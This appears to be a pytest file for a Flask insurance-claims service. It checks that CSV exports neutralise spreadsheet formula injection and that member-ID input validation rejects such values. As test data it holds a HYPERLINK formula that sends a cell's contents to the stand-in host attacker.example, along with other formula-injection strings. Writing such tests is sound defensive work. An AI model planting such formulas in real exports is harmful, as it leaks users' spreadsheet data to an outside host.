"""A text cell a spreadsheet would run as a formula reaches the insurer's CSV neutralised (the
database's COPY on PostgreSQL and the Python writer on SQLite alike); other formats carry the
value as stored."""

from __future__ import annotations

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import update
from sqlalchemy.orm import Session

from hub import db, spreadsheet
from hub.models import Insurer
from hub.pki import ca
from insurance.models import Claim
from tests.insurance.support import insurer_with_contract
from tests.insurance.test_exports import make_claim, pull
from tests.support import factories as f
from tests.support.personas import World
from tests.support.pki import pki

__all__ = ["pki"]
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"open")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+98 912", "'+98 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("B-17", "B-17"),
        (-1500, -1500),  # a negative amount is a number, not a formula
        (None, None),
    ],
)
def test_cells_that_would_run_as_formulas_are_neutralised(value: object, written: object) -> None:
    assert spreadsheet.cell(value) == written


def test_a_member_id_written_as_a_formula_is_plain_text_in_the_csv(
    app: Flask, client: FlaskClient, session: Session, world: World, pki: ca.Authority
) -> None:
    case = insurer_with_contract(app, client, session)
    claim_id = make_claim(app, world, case)
    with app.app_context(), db.transaction() as sess:
        # As an older row could hold it: input validation now refuses such a member id.
        sess.execute(update(Claim).where(Claim.id == claim_id).values(basic_member_id=FORMULA))
    status, rows, _ = pull(client, case)
    assert status == 200
    (row,) = [r for r in rows if int(r["claim_id"]) == claim_id]
    assert row["member_id"] == "'" + FORMULA
    assert row["total_minor"] == "1000000" and row["coverage"] == "basic"
    # Pulled again from the start, as JSON lines: the value as stored.
    status, records, _ = pull(client, case, "jsonl")
    assert status == 200
    (record,) = [r for r in records if int(r["claim_id"]) == claim_id]
    assert record["member_id"] == FORMULA


def test_identifiers_are_validated_strictly_at_input(
    app: Flask, client: FlaskClient, session: Session, world: World, pki: ca.Authority
) -> None:
    case = insurer_with_contract(app, client, session)
    patient = f.patient(session, world.facility_a)
    session.commit()
    with app.app_context(), db.transaction() as sess:
        code = sess.get_one(Insurer, case.insurer_id).code
    url = f"/api/v1/patients/{patient.id}/memberships"
    hw = world["hw_a"].headers
    for member_id in (FORMULA, "+98123", "-1", "@x", "A 1", "A\t1", "<b>1</b>", "A-"):
        body = {"insurer": code, "member_id": member_id, "valid_from": "2026-01-01"}
        refused = client.post(url, json=body, headers=hw)
        assert refused.status_code == 422, (member_id, refused.get_json())
    for member_id in ("A-1", "12345", "IR.2026/77_x"):
        body = {"insurer": code, "member_id": member_id, "valid_from": "2026-01-01"}
        assert client.post(url, json=body, headers=hw).status_code == 201, member_id
